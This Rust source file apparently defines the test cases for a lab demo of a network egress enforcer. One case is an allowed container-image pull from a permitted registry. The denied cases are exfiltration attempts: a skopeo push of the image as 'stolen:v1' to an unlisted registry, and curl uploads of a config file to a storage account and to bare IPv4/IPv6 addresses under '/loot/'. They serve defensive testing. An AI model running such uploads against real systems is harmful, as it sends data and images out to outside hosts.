//! What the demo tries.

use std::net::{IpAddr, SocketAddr};
use std::path::{Path, PathBuf};

use anyhow::Result;
use enforcer_lab::{Image, Lab, Protocol, probe_program, world};

use crate::Tried;

/// The folder, in the lab's, that the image is pulled into.
pub(crate) const PULLED: &str = "pulled";

/// A program and its arguments.
pub(crate) struct Attempt {
    pub(crate) program: PathBuf,
    pub(crate) arguments: Vec<String>,
}

impl Attempt {
    fn new(program: impl AsRef<Path>, arguments: &[&str]) -> Self {
        let arguments = arguments.iter().map(|&argument| argument.to_owned()).collect();
        Self {
            program: program.as_ref().to_path_buf(),
            arguments,
        }
    }
}

/// What a case should show.
#[derive(Clone, Copy, PartialEq, Eq)]
pub(crate) enum Expected {
    /// The policy grants it.
    Works,
    /// The policy does not.
    Denied,
}

/// One thing to try.
pub(crate) struct Case {
    pub(crate) title: String,
    pub(crate) attempt: Attempt,
    pub(crate) expected: Expected,
    /// Where nothing may arrive when it is denied.
    pub(crate) destinations: Vec<(Protocol, IpAddr)>,
}

impl Case {
    fn denied(title: impl Into<String>, attempt: Attempt, protocol: Protocol, addresses: &[&str]) -> Self {
        let destinations = addresses
            .iter()
            .map(|text| (protocol, world::address(text)))
            .collect();
        Self {
            title: title.into(),
            attempt,
            expected: Expected::Denied,
            destinations,
        }
    }

    /// What is wrong with what happened, if anything.
    pub(crate) fn problem(&self, tried: &Tried) -> Option<String> {
        let fails_by_itself = tried.without.as_ref().is_some_and(|without| !without.success());
        match self.expected {
            _ if tried.with.timed_out => Some("it hangs".to_owned()),
            Expected::Works if !tried.with.success() => Some("it should have worked".to_owned()),
            Expected::Works if tried.served_from.is_empty() => Some("the image is not whole".to_owned()),
            Expected::Works if !tried.report.denials.is_empty() => {
                Some("something was denied all the same".to_owned())
            }
            Expected::Denied if fails_by_itself => {
                Some("it does not even work without the enforcer".to_owned())
            }
            Expected::Denied if tried.with.success() => Some("it should have been denied".to_owned()),
            Expected::Denied if tried.report.denials.is_empty() => Some("no denial was reported".to_owned()),
            Expected::Denied if tried.leaked > 0 => Some(format!("{} packets arrived", tried.leaked)),
            _ => None,
        }
    }
}

/// Every case, in the order in which they are told.
pub(crate) fn all(lab: &Lab, image: &Image) -> Result<Vec<Case>> {
    let pull = Case {
        title: format!(
            "pull {}/app:v1, whose {} layers are at {}",
            world::CONTOSO,
            image.layers.len(),
            world::CONTOSO_DATA
        ),
        attempt: Attempt {
            program: "skopeo".into(),
            arguments: lab.pull_arguments(&format!("{}/app:v1", world::CONTOSO), Path::new(PULLED)),
        },
        expected: Expected::Works,
        destinations: Vec::new(),
    };
    let push = Case::denied(
        format!(
            "push to {}, a registry that the policy does not name",
            world::FABRIKAM
        ),
        Attempt::new(
            "skopeo",
            &[
                "--insecure-policy",
                "copy",
                "--quiet",
                &format!("oci:{}:v1", relative(lab, &image.folder)),
                &format!("docker://{}/stolen:v1", world::FABRIKAM),
            ],
        ),
        Protocol::Tcp,
        &world::FABRIKAM_ADDRESSES,
    );
    let mut cases = vec![pull, push];
    let families = [("IPv4", "-4", 0), ("IPv6", "-6", 1)];
    for (family, flag, index) in families {
        if family == "IPv6" {
            cases.push(Case::denied(
                format!("ask {} by IPv6", world::FABRIKAM),
                curl(&[flag, &format!("https://{}/v2/", world::FABRIKAM)]),
                Protocol::Tcp,
                &world::FABRIKAM_ADDRESSES[index..=index],
            ));
        }
        cases.push(Case::denied(
            format!("upload to a storage account by {family}"),
            curl(&[
                flag,
                "--upload-file",
                "demo.toml",
                &format!("https://{}/loot/demo.toml", world::STORAGE),
            ]),
            Protocol::Tcp,
            &world::STORAGE_ADDRESSES[index..=index],
        ));
        let bare = SocketAddr::new(world::address(world::BARE_ADDRESSES[index]), 443);
        cases.push(Case::denied(
            format!("upload to a bare {family} address"),
            curl(&[
                "--upload-file",
                "demo.toml",
                &format!("https://{bare}/loot/demo.toml"),
            ]),
            Protocol::Tcp,
            &world::BARE_ADDRESSES[index..=index],
        ));
        // Its TCP port 443 is granted.
        let contoso = world::CONTOSO_ADDRESSES[2 * index];
        let destination = SocketAddr::new(world::address(contoso), 443);
        cases.push(Case::denied(
            format!(
                "UDP on 443 (QUIC) by {family}, to an address of {} itself",
                world::CONTOSO
            ),
            Attempt::new(probe_program()?, &["udp", &destination.to_string()]),
            Protocol::Udp,
            &[contoso],
        ));
    }
    Ok(cases)
}

fn curl(arguments: &[&str]) -> Attempt {
    Attempt::new(
        "curl",
        &[
            &["--silent", "--show-error", "--fail", "--output", "/dev/null"],
            arguments,
        ]
        .concat(),
    )
}

/// `path` as seen from the lab's folder, where programs start.
fn relative(lab: &Lab, path: &Path) -> String {
    path.strip_prefix(lab.folder())
        .unwrap_or(path)
        .display()
        .to_string()
}
